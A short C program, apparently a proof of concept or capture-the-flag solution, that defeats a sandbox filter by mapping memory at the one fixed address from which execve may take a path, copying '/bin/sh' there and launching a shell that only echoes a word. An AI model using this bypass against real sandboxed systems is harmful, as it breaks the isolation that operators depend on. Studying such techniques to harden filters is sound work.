/* the one address from which the filter lets execve take a path */
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

int main(void) {
    char *words[] = {"/bin/sh", "-c", "echo shell", 0};
    char *at = mmap((void *)0x1000000000, 4096, PROT_READ | PROT_WRITE,
                    MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    strcpy(at, words[0]);
    return execve(at, words, 0);
}
